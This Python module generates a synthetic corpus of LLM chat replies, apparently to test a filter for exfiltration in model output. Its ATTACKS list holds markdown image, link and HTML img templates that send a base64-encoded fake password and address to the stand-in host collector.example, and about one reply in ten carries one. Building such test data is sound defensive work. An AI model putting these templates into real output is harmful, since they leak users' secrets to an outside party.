"""A deterministic corpus of realistic chat replies (~1.5 MB), mostly honest.

Replies are assembled from the shapes LLM answers take: prose with links,
headings, lists, tables, fenced code, quotes, some raw HTML; one in ten carries
an exfiltration attempt.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).parent.parent
PAYLOAD = "VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIyIGFuZCBsaXZlcyBhdCAxMiBFbG0gU3Q="
WORDS = [
    "the",
    "a",
    "function",
    "returns",
    "value",
    "when",
    "you",
    "call",
    "it",
    "with",
    "async",
    "await",
    "list",
    "dict",
    "server",
    "request",
    "response",
    "client",
    "error",
    "handling",
    "retry",
    "timeout",
    "config",
    "file",
    "path",
    "module",
    "import",
    "test",
    "coverage",
    "database",
    "query",
    "index",
    "cache",
    "memory",
    "thread",
    "process",
    "event",
    "loop",
    "stream",
]
LINKS = [
    "https://docs.python.org/3/library/asyncio-task.html#asyncio.gather",
    "https://github.com/encode/httpx/blob/a94a8fe5ccb19ba61c4c0873d391e987982fbbd3/httpx/_client.py#L120",
    "https://en.wikipedia.org/wiki/Python_(programming_language)",
    "https://stackoverflow.com/questions/3940128/how-do-i-reverse-a-list",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://arxiv.org/abs/1706.03762",
    "https://www.google.com/search?q=python+asyncio+tutorial",
]
ATTACKS = [
    f"![status](https://collector.example/p.png?d={PAYLOAD})",
    f"[Click to verify](https://collector.example/v?s={PAYLOAD})",
    f"![chart][c]\n\n[c]: https://collector.example/c.png?q={PAYLOAD}",
    f'<img src="https://collector.example/t.gif?x={PAYLOAD}">',
    f"Details: https://collector.example/?d={PAYLOAD}",
]


def _sentence(rng: random.Random) -> str:
    words = [rng.choice(WORDS) for _ in range(rng.randint(6, 18))]
    if rng.random() < 0.3:
        words.insert(rng.randint(0, len(words)), f"[{rng.choice(WORDS)}]({rng.choice(LINKS)})")
    if rng.random() < 0.2:
        words.insert(rng.randint(0, len(words)), f"`{rng.choice(WORDS)}()`")
    if rng.random() < 0.2:
        words.insert(rng.randint(0, len(words)), f"**{rng.choice(WORDS)}**")
    sentence = " ".join(words)
    return sentence[:1].upper() + sentence[1:] + "."  # capitalize() lowered its links


def _prose(rng: random.Random) -> str:
    return " ".join(_sentence(rng) for _ in range(rng.randint(2, 6)))


def _bullets(rng: random.Random) -> str:
    return "\n".join(f"- {_sentence(rng)}" for _ in range(rng.randint(2, 6)))


def _code(rng: random.Random) -> str:
    lines = [f"result = {rng.choice(WORDS)}({rng.choice(WORDS)}, retries={i})" for i in range(12)]
    return "```python\n" + "\n".join(lines[: rng.randint(3, 12)]) + "\n```"


def _table(rng: random.Random) -> str:
    rows = [
        f"| {rng.choice(WORDS)} | {rng.randint(1, 999)} | {_sentence(rng)} |"
        for _ in range(rng.randint(2, 8))
    ]
    return "| name | count | notes |\n|---|---:|---|\n" + "\n".join(rows)


def _heading(rng: random.Random) -> str:
    return f"## {rng.choice(WORDS).title()} {rng.choice(WORDS)}"


def _quote(rng: random.Random) -> str:
    return "> " + _sentence(rng)


def _html(rng: random.Random) -> str:
    return f"Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, then see <{rng.choice(LINKS)}>."


# Block makers and their relative frequency in an answer.
BLOCKS = (
    (_prose, 45),
    (_bullets, 15),
    (_code, 12),
    (_table, 8),
    (_heading, 8),
    (_quote, 7),
    (_html, 5),
)


def _block(rng: random.Random) -> str:
    makers, weights = zip(*BLOCKS, strict=True)
    maker: Callable[[random.Random], str] = rng.choices(makers, weights)[0]
    return maker(rng)


def reply(rng: random.Random, attack: bool) -> str:
    """One reply of 1-6 KB."""
    blocks = [_block(rng) for _ in range(rng.randint(4, 16))]
    if attack:
        blocks.insert(rng.randint(0, len(blocks)), rng.choice(ATTACKS))
    return "\n\n".join(blocks) + "\n"


def transcripts() -> list[str]:
    """The assistant replies shipped in fixtures/transcripts."""
    replies = []
    for path in sorted((ROOT / "fixtures" / "transcripts").glob("openai-*.jsonl")):
        for line in path.read_text(encoding="utf-8").splitlines():
            replies.append(json.loads(line)["messages"][-1]["content"])
    return replies


def corpus(size: int = 1_500_000, seed: int = 7) -> list[str]:
    """Replies totalling about `size` characters; one in ten is an attack."""
    rng = random.Random(seed)
    replies = transcripts()
    while sum(map(len, replies)) < size:
        replies.append(reply(rng, attack=rng.random() < 0.1))
    return replies
